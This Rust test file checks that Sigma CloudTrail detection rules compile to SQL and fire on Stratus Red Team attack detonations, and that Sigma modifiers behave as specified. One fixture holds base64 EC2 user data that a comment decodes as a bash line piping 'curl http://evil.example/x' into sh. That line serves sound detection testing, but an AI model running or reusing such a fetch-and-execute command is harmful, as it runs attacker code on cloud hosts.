//! Sigma rules: the community's CloudTrail rules of `../shared/sigma` compile and plan
//! against the schema, and fire on the attack detonations of `../shared/testdata`.

use std::collections::BTreeMap;

use trailscope_query::QueryOptions;
use trailscope_query::detections::{DetectionSet, Severity, findings};
use trailscope_query::sigma;

/// `../shared/sigma`, beside the shared test data (or skipped).
fn shared_rules() -> Option<std::path::PathBuf> {
    let testdata = trailscope_ingest::synth::shared::for_test()?;
    Some(testdata.parent().unwrap().join("sigma"))
}

#[tokio::test]
async fn the_shared_rules_compile_and_fire_on_the_detonations() {
    let tmp = tempfile::tempdir().unwrap();
    let Some(rules) = shared_rules() else {
        return;
    };
    let Some((dataset, _)) = super::samples_dataset(tmp.path()) else {
        return;
    };
    // The rule sets CI reads; SigmaHQ's `unsupported/` and `rules-placeholder/` are
    // outside by their own authors' word.
    let paths = vec![
        rules.join("sigmahq/rules"),
        rules.join("suzaku-rules/sigma"),
        rules.join("suzaku-rules/suzaku"),
    ];
    let load = sigma::load(&paths);
    let mut reasons: BTreeMap<String, usize> = BTreeMap::new();
    for (_, why) in &load.not_supported {
        let kind = why.split(": ").last().unwrap_or(why).to_string();
        *reasons.entry(kind).or_default() += 1;
    }
    eprintln!(
        "{} files, {} rules compiled, {} not supported: {reasons:#?}",
        load.files,
        load.detections.len(),
        load.not_supported.len()
    );
    // Every compiled rule plans against the schema, alone.
    let ctx = trailscope_query::open_session(&dataset, &QueryOptions::default())
        .await
        .unwrap();
    let mut unplanned = Vec::new();
    for d in &load.detections {
        let sql = trailscope_query::detections::findings_sql(std::slice::from_ref(d)).unwrap();
        if let Err(e) = ctx.sql(&sql).await {
            unplanned.push(format!("{}: {e}", d.source));
        }
    }
    assert!(unplanned.is_empty(), "{unplanned:#?}");
    let total = load.detections.len() + load.not_supported.len();
    assert!(
        load.not_supported.len() * 100 <= total * 2,
        "{} of {total} not supported: {reasons:#?}",
        load.not_supported.len()
    );
    // The gates (each rule evaluated only on the events it names) change nothing: the
    // same (event, rule) pairs as every rule evaluated on every event.
    let pairs = |gated: bool| {
        let ctx = &ctx;
        let sql = format!(
            "SELECT count(*) AS n, count(DISTINCT concat(source_file, '#', CAST(record_index AS VARCHAR), '#', CAST(rule AS VARCHAR))) AS d FROM ({})",
            sigma::hits_sql(&load, gated)
        );
        async move { super::scalar(ctx, &sql).await }
    };
    let (gated, all) = (pairs(true).await, pairs(false).await);
    assert!(gated > 300, "{gated} hits");
    assert_eq!(gated, all);
    let only_in_one = format!(
        "SELECT count(*) FROM (({gated} EXCEPT {all}) UNION ALL ({all} EXCEPT {gated}))",
        gated = sigma::hits_sql(&load, true),
        all = sigma::hits_sql(&load, false)
    );
    assert_eq!(super::scalar(&ctx, &only_in_one).await, 0);
    // Over the Stratus Red Team detonations: what fires, by rule.
    let mut detections = vec![sigma::rule_set(&load).unwrap()];
    detections.extend(load.correlations.iter().cloned());
    assert_eq!(load.correlations.len(), 5, "suzaku's correlation rules");
    let options = QueryOptions {
        detections: DetectionSet::new(detections).unwrap(),
        ..QueryOptions::default()
    };
    let ctx = trailscope_query::open_session(&dataset, &options)
        .await
        .unwrap();
    let found = findings(&ctx, Severity::Info).await.unwrap();
    let mut fired: BTreeMap<String, usize> = BTreeMap::new();
    for title in found.strings("title") {
        *fired.entry(title).or_default() += 1;
    }
    eprintln!("{} rules fired: {fired:#?}", fired.len());
    assert!(fired.len() >= 10, "{fired:#?}");
    // Rules written for techniques the Stratus Red Team detonations ran.
    for title in [
        "AWS CloudTrail Important Change",
        "AWS IAM Backdoor Users Keys",
        "AWS User Login Profile Was Modified",
        "AWS VPC Flow Logs Deleted",
    ] {
        assert!(
            fired.contains_key(title),
            "{title} did not fire: {fired:#?}"
        );
    }
    assert_eq!(
        load.duplicates.len(),
        55,
        "suzaku's copies of SigmaHQ rules"
    );
}

/// The ids of the hand-made records that the rule (its `detection:` block) matches.
async fn matches(ctx: &datafusion::prelude::SessionContext, detection: &str) -> Vec<String> {
    let yaml = format!(
        "title: t\nid: 00000000-0000-0000-0000-000000000000\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n{detection}\n"
    );
    let mut load = sigma::SigmaLoad::default();
    sigma::load_text(&yaml, "test.yml", &mut load);
    assert!(load.not_supported.is_empty(), "{:?}", load.not_supported);
    let sql = format!(
        "SELECT event_id FROM events WHERE {} ORDER BY event_id",
        load.compiled[0].predicate
    );
    let frame = ctx.sql(&sql).await.unwrap();
    let schema = std::sync::Arc::new(frame.schema().as_arrow().clone());
    let batches = frame.collect().await.unwrap();
    trailscope_query::Answer { schema, batches }.strings("event_id")
}

#[tokio::test]
async fn modifiers_and_conditions_mean_what_the_specification_says() {
    let tmp = tempfile::tempdir().unwrap();
    let record = |id: &str, name: &str, agent: &str, ip: &str, extra: &str| {
        format!(
            r#"{{"eventVersion":"1.08","eventSource":"signin.amazonaws.com","eventName":"{name}","eventID":"{id}",
               "eventTime":"2026-03-02T10:00:00Z","userAgent":"{agent}","sourceIPAddress":"{ip}",
               "recipientAccountId":"111122223333"{extra}}}"#
        )
    };
    let records = [
        record(
            "a",
            "ConsoleLogin",
            "aws-cli/2.15.0 Python/3.11 Darwin/23",
            "198.51.100.7",
            r#","requestParameters":{"maxResults":50,"path":"a*b","owner":"x"},"additionalEventData":{"MFAUsed":"No"}"#,
        ),
        record(
            "b",
            "consolelogin",
            "Boto3/1.34 os/linux",
            "203.0.113.9",
            r#","requestParameters":{"maxResults":5,"path":"axb","owner":"Boto3/1.34 os/linux"}"#,
        ),
        record(
            "c",
            "GetObject",
            "aws-cli/2.15.0 Python/3.11 Linux/6",
            "10.1.2.3",
            "",
        ),
    ];
    let ctx = super::session_of(tmp.path(), &records).await;
    let cases: &[(&str, &[&str])] = &[
        // Case-insensitive by default; `cased` is exact.
        (
            "  sel:\n    eventName: 'CONSOLELOGIN'\n  condition: sel",
            &["a", "b"],
        ),
        (
            "  sel:\n    eventName|cased: 'ConsoleLogin'\n  condition: sel",
            &["a"],
        ),
        // Wildcards, and a backslash that makes `*` a plain character.
        (
            "  sel:\n    eventName: 'console*'\n  condition: sel",
            &["a", "b"],
        ),
        (
            "  sel:\n    eventName: 'Get?bject'\n  condition: sel",
            &["c"],
        ),
        (
            "  sel:\n    requestParameters.path: 'a\\*b'\n  condition: sel",
            &["a"],
        ),
        (
            "  sel:\n    requestParameters.path: 'a*b'\n  condition: sel",
            &["a", "b"],
        ),
        // A list is OR; `all` makes it AND.
        (
            "  sel:\n    userAgent|contains:\n      - 'darwin'\n      - 'boto3'\n  condition: sel",
            &["a", "b"],
        ),
        (
            "  sel:\n    userAgent|contains|all:\n      - 'aws-cli'\n      - 'darwin'\n  condition: sel",
            &["a"],
        ),
        (
            "  sel:\n    userAgent|startswith: 'AWS-CLI'\n  condition: sel",
            &["a", "c"],
        ),
        (
            "  sel:\n    userAgent|endswith: 'linux'\n  condition: sel",
            &["b"],
        ),
        // Regular expressions are case-sensitive unless `i`.
        (
            "  sel:\n    eventName|re: '^console'\n  condition: sel",
            &["b"],
        ),
        (
            "  sel:\n    eventName|re|i: '^console'\n  condition: sel",
            &["a", "b"],
        ),
        (
            "  sel:\n    sourceIPAddress|cidr: '10.0.0.0/8'\n  condition: sel",
            &["c"],
        ),
        (
            "  sel:\n    additionalEventData.MFAUsed|exists: true\n  condition: sel",
            &["a"],
        ),
        (
            "  sel:\n    additionalEventData.MFAUsed|exists: false\n  condition: sel",
            &["b", "c"],
        ),
        (
            "  sel:\n    requestParameters: null\n  condition: sel",
            &["c"],
        ),
        (
            "  sel:\n    requestParameters.maxResults|gt: 10\n  condition: sel",
            &["a"],
        ),
        (
            "  sel:\n    requestParameters.maxResults|lte: 5\n  condition: sel",
            &["b"],
        ),
        (
            "  sel:\n    requestParameters.owner|fieldref: userAgent\n  condition: sel",
            &["b"],
        ),
        // Conditions: not over a missing field is true, `1 of`, `all of them`.
        (
            "  sel:\n    additionalEventData.MFAUsed: 'No'\n  condition: not sel",
            &["b", "c"],
        ),
        (
            "  sel_a:\n    eventName: GetObject\n  sel_b:\n    sourceIPAddress: 203.0.113.9\n  condition: 1 of sel_*",
            &["b", "c"],
        ),
        (
            "  sel_a:\n    eventName: ConsoleLogin\n  sel_b:\n    sourceIPAddress: 203.0.113.9\n  condition: all of them",
            &["b"],
        ),
        (
            "  a:\n    eventName: ConsoleLogin\n  b:\n    userAgent|contains: linux\n  c:\n    eventName: GetObject\n  condition: (a and not b) or c",
            &["a", "c"],
        ),
    ];
    for (detection, expected) in cases {
        assert_eq!(&matches(&ctx, detection).await, expected, "{detection}");
    }
}

#[tokio::test]
async fn keywords_and_encodings_match_the_records_text() {
    let tmp = tempfile::tempdir().unwrap();
    // `d`'s user data is base64 of "#!/bin/bash\ncurl http://evil.example/x | sh".
    let records = [
        r#"{"eventVersion":"1.08","eventSource":"ec2.amazonaws.com","eventName":"RunInstances","eventID":"d",
            "eventTime":"2026-03-02T10:00:00Z","recipientAccountId":"111122223333",
            "requestParameters":{"userData":"IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="}}"#,
        r#"{"eventVersion":"1.08","eventSource":"ec2.amazonaws.com","eventName":"RunInstances","eventID":"e",
            "eventTime":"2026-03-02T10:00:00Z","recipientAccountId":"111122223333","userAgent":"Evil-Tool/1.0",
            "requestParameters":{"userData":"ZWNobyBoZWxsbw=="}}"#,
    ];
    let records = records.map(String::from);
    let ctx = super::session_of(tmp.path(), &records).await;
    let cases: &[(&str, &[&str])] = &[
        // Keywords: anywhere in the record's values, case-insensitive, wildcards kept.
        ("  words:\n    - evil-tool\n  condition: words", &["e"]),
        ("  words:\n    - 'ZWNob*'\n  condition: words", &["e"]),
        ("  words:\n    - nothing-like-this\n  condition: words", &[]),
        (
            "  words:\n    '|all':\n      - runinstances\n      - evil\n  condition: words",
            &["e"],
        ),
        // The value as it is inside a longer base64 text, at any offset.
        (
            "  sel:\n    requestParameters.userData|base64offset|contains: 'curl http'\n  condition: sel",
            &["d"],
        ),
        (
            "  sel:\n    requestParameters.userData|base64offset|contains: '/bin/bash'\n  condition: sel",
            &["d"],
        ),
        (
            "  sel:\n    requestParameters.userData|base64: 'echo hello'\n  condition: sel",
            &["e"],
        ),
        (
            "  sel:\n    requestParameters.userData|base64|contains: 'echo'\n  condition: sel",
            &[],
        ),
    ];
    for (detection, expected) in cases {
        assert_eq!(&matches(&ctx, detection).await, expected, "{detection}");
    }
}
